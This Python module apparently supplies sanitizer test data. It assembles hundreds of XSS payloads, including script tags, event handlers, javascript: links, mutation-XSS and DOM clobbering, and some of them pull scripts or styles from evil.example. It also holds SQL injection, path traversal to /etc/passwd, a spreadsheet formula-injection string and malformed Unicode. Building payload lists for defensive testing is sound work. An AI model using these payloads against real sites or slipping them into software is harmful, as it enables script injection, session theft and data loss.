"""Texts that try to become something else on a page: our own list, and lists from elsewhere.

Each that runs calls `alert`, `confirm`, `prompt` or `print`, or asks another host for something.
"""

import json
import os
from itertools import product
from pathlib import Path

RUN = "alert(1)"
_QUOTES = ["'", '"', "`", ""]

_HANDLERS = [
    *("onload", "onerror", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle"),
    *("onanimationstart", "onbeforetoggle", "onscrollend", "onpageshow", "onbegin", "onstart"),
]
_CARRIERS = ["img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "x"]
HANDLERS = [
    f"<{carrier} {handler}={quote}{RUN}{quote}>"
    for carrier, handler, quote in zip(
        _CARRIERS * len(_HANDLERS), _HANDLERS * len(_CARRIERS), _QUOTES * 99, strict=False
    )
][:40]

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/src=//evil.example/x.js></script><script\n>{RUN}</script\n>",
    f"<script type=module>import '//evil.example/{RUN}.js'</script>",
    f'<script type="text/plain">{RUN}</script><script>{RUN}',
    f"</title><script>{RUN}</script>",
    f"</textarea></style></script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<%= {RUN} %><#if x>{{{{{RUN}}}}}${{{RUN}}}#{{{RUN}}}{{% debug %}}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&#58;alert(1)",
    "javascript&#0000058alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "https:javascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/x",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/admin/logout/?next=//evil.example",
    "mailto:a@example.org?subject=<script>alert(1)</script>",
    "https://example.org/\"onmouseover='alert(1)'x=\"",
    "https://example.org/'><img/src/onerror=alert(1)>",
    "https://example.org/&quot;><script>alert(1)</script>",
]
LINKS = [f'<a href="{address}">link</a>' for address in _ADDRESSES]
LINKS += [f"<a href={address.replace(' ', '')}>bare</a>" for address in _ADDRESSES[:6]]
ELSEWHERE = [
    f"<{tag} {name}=//evil.example/x>"
    for tag, name in (
        *(
            ("img", "src"),
            ("img", "srcset"),
            ("iframe", "src"),
            ("embed", "src"),
            ("object", "data"),
        ),
        *(("link rel=stylesheet", "href"), ("video", "poster"), ("audio autoplay", "src")),
        *(("form", "action"), ("button", "formaction"), ("base", "href"), ("body", "background")),
        *(("input type=image", "src"), ("meta http-equiv=refresh content=0", "url"), ("a", "ping")),
        *(("svg><image", "href"), ("svg><use", "href"), ("math", "href"), ("portal", "src")),
    )
]
ELSEWHERE += [
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    '<object type="text/html" data="data:text/html,<script>parent.alert(1)</script>"></object>',
]

MUTATIONS = [
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror={RUN}>'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg><desc><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<table><svg><foreignObject><p title='</table><img src=x onerror={RUN}>'>",
    f"<p><svg><foreignObject><p><style></p><img src=x onerror={RUN}></style>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<iframe><p title='</iframe><img src=x onerror={RUN}>'>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><a id=x><text>click</text></a>",
    f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><script href=data:,{RUN} /><script>{RUN}</script></svg>",
    f"<p><button><p><a href='https://a.example'><table><td><a href=javascript:{RUN}>x",
    "<b><i><b><i><b><i><a><b><p><table><b><tr><td><i><a>" * 3,
    "<div>" * 600 + "deep" + "</div>" * 600,
    "<p title='`'><p title='` onmouseover=alert(1) '>",
    "<a title=\"'>\" href='\"'>x</a>",
    "<p/onclick=alert(1)/x><p\x0conclick=alert(1)><p onclick\x00=alert(1)>",
]

STYLES = [
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>covers the page</p>",
    '<p style="width:expression(alert(1))">x</p>',
    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
    "</style><style>body{display:none}</style>",
]

CLOBBERING = [
    "<form name=document><input name=cookie></form>",
    "<a id=said class=said data-copied=alert(1)>x</a>",
    "<p id=main>x</p><p id=source-1>y</p><p id=analysis-1>z</p>",
    "<img name=getElementById><img name=querySelectorAll>",
    "<p class='said' data-copy='x'>x</p><button data-print>x</button>",
    "<form id=test><input name=attributes><input name=parentNode>",
    "<a href='https://a.example' id=canonical rel=canonical>x</a>",
]

TEXTS = [
    "\u202egnp.exe\u202c right to left",
    "\u2066isolated\u2069 \u200ezero\u200bwidth\u2060\ufeff\u00ad",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 30 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ea\U0001f1ec",
    "\U0001f3f4\U000e0067\U000e007f",
    "\ufdfa \u0bcc \U0001242b \u2028 \u2029 \ufffe \uffff \U0010ffff",
    "' OR '1'='1'; DROP TABLE briefs_brief; --",
    "1; SELECT pg_sleep(10) --\\",
    "%s %(x)s %d {0} {x!r} {0.__class__} $1 ${x} %n%n%n",
    "../../../../etc/passwd ..\\..\\x C:\\x file:///etc/passwd",
    "null None undefined NaN Infinity true false 0 -1 1e999 __proto__ constructor",
    "[1] \\[1] [[1]] [1](javascript:alert(1)) [x]: javascript:alert(1)",
    "\" ' ` < > & \\ / = ; : , . ( ) [ ] { } | ~ ! @ # $ % ^ * + - _ ?",
    '-->]]>?>%>}}*/ // # " onmouseover=alert(1) x="',
    "' onfocus='alert(1)' autofocus='",
    "=cmd|' /C calc'!A0 @SUM(1+1)*cmd +1+1 -2+3",
    "longword" * 30,
    "مرحبا <b>بالعالم</b> שלום <i>עולם</i> Привет 你好 नमस्ते",
]

OWN = [
    *(*SCRIPTS, *HANDLERS, *LINKS, *ELSEWHERE, *MUTATIONS, *STYLES, *CLOBBERING, *TEXTS),
    *(f"{quote}>{payload}" for quote, payload in product(("'", '"'), SCRIPTS[:2])),
]


def folder_of_others() -> Path | None:
    """Return the folder of other projects' lists, named by REAL_DATA; None if it is not set."""
    real_data = os.environ.get("REAL_DATA")
    return Path(real_data) / "data" / "hostile" if real_data else None


def all_payloads() -> list[str]:
    """Return our own payloads and those of the available lists, each once."""
    found = list(OWN)
    if folder := folder_of_others():
        found += (folder / "xss_payloads.txt").read_text().splitlines()
        for pair in json.loads((folder / "dompurify_pairs.json").read_text()):
            expected = pair["expected"]
            found += [pair["payload"], *(expected if isinstance(expected, list) else [expected])]
        found += json.loads((folder / "naughty_strings.json").read_text())
    return list(dict.fromkeys(filter(str.strip, found)))
